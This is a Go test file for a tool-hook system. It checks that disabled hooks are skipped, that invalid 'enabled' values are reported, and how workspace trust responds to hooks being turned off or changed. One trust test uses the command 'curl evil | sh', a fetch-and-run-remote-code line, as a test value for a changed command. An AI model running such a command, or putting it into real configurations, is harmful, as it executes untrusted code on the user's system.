package hooks_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/wavehooks/wavehooks/hooks"
	"github.com/wavehooks/wavehooks/internal/event"
	"github.com/wavehooks/wavehooks/internal/settings"
	"github.com/wavehooks/wavehooks/internal/trust"
)

// TestDisabledHooksDoNotRun: "enabled": false on a hook, or on its matcher
// group, keeps it from running, and the run history shows it skipped
// (disabled); "enabled": true and the hooks beside it run as before.
func TestDisabledHooksDoNotRun(t *testing.T) {
	mark := func(name string) string {
		return `{"type": "command", "command": "jq -r .tool_name > \"$WAVE_PROJECT_DIR/` + name + `\""`
	}
	e, root := setup(t, `{"hooks": {"PreToolUse": [
  {"matcher": "Bash", "hooks": [`+mark("on")+`}, `+mark("off")+`, "enabled": false}, `+mark("on-explicit")+`, "enabled": true}]},
  {"matcher": "Bash", "enabled": false, "hooks": [`+mark("group-off")+`}]}
]}}`)
	in := input(event.PreToolUse, root)
	in.ToolName = "Bash"
	res := e.Fire(context.Background(), in)
	require.Len(t, res.Runs, 4)
	for _, c := range []struct {
		file, skipped string
	}{
		{"on", ""},
		{"off", `disabled: "enabled": false`},
		{"on-explicit", ""},
		{"group-off", `disabled: its matcher group says "enabled": false`},
	} {
		var run *hooks.Run
		for i := range res.Runs {
			if strings.Contains(res.Runs[i].Command, "/"+c.file+`"`) {
				run = &res.Runs[i]
			}
		}
		require.NotNil(t, run, c.file)
		_, err := os.Stat(filepath.Join(root, c.file))
		if c.skipped == "" {
			require.True(t, run.Ran, c.file)
			require.NoError(t, err, "%s ran", c.file)
		} else {
			require.False(t, run.Ran, c.file)
			require.Equal(t, c.skipped, run.Skipped)
			require.ErrorIs(t, err, os.ErrNotExist, "%s never ran", c.file)
		}
	}
}

// TestEnabledMustBeABoolean: a non-boolean "enabled" is an error and the
// hook stays on (Claude Code ignores the key, so the hook ran there too).
func TestEnabledMustBeABoolean(t *testing.T) {
	home, root := t.TempDir(), t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(home, "settings.json"), []byte(`{"hooks": {"Stop": [
  {"enabled": "no", "hooks": [{"type": "command", "command": "true", "enabled": 0}]}]}}`), 0o644))
	cfg := settings.Load(settings.Paths{WaveHome: home, ProjectRoot: root}, nil)
	var msgs []string
	for _, d := range cfg.Diagnostics() {
		msgs = append(msgs, d.Message)
	}
	require.ElementsMatch(t, []string{"enabled must be true or false; the matcher group stays on", "enabled must be true or false; the hook stays on"}, msgs)
	require.Len(t, cfg.Hooks, 1)
	require.False(t, cfg.Hooks[0].Disabled)
}

// TestTurningAHookOffNeedsNoTrust: a trusted workspace that turns one of
// its hooks off stays trusted (the hook never runs, whatever trust says),
// and one that turns a hook back on, or changes anything else, must be
// trusted again.
func TestTurningAHookOffNeedsNoTrust(t *testing.T) {
	settings := func(aOff, bOff, bCommand string) string {
		return `{"hooks": {"Stop": [
  {"hooks": [{"type": "command", "command": "true"` + aOff + `}]},
  {"hooks": [{"type": "command", "command": "` + bCommand + `"` + bOff + `}]}]}}`
	}
	const off = `, "enabled": false`
	l := writeLayout(t, map[string]string{".wave/settings.json": settings("", "", "exit 0")})
	store := trust.NewTrustStore(l.home)
	decide := func(text string) *trust.Loaded {
		require.NoError(t, os.WriteFile(l.path(".wave/settings.json"), []byte(text), 0o644))
		return store.Decide(l.root, l.load(t), false)
	}
	require.NoError(t, store.Trust(l.root, decide(settings("", "", "exit 0")).Hash))

	steps := []struct {
		name, text string
		trusted    bool
	}{
		{"one hook turned off", settings(off, "", "exit 0"), true},
		{"both turned off", settings(off, off, "exit 0"), true},
		{"back to as trusted", settings("", "", "exit 0"), true},
		{"off and its command changed", settings("", off, "curl evil | sh"), false},
	}
	for _, s := range steps {
		require.Equal(t, s.trusted, decide(s.text).Trusted, s.name)
	}

	// Trusted with a hook off: turning it on is a change trust covers.
	require.NoError(t, store.Trust(l.root, decide(settings(off, "", "exit 0")).Hash))
	require.True(t, decide(settings(off, off, "exit 0")).Trusted, "more off")
	l2 := decide(settings("", "", "exit 0"))
	require.False(t, l2.Trusted, "a hook turned back on waits for trust")
	require.Equal(t, []string{"true", "exit 0"}, trust.WorkspaceCommands(l2.Full), "the prompt lists it")
	require.Equal(t, []string{"exit 0"}, trust.WorkspaceCommands(decide(settings(off, "", "exit 0")).Full), "a hook that is off is not listed")
}
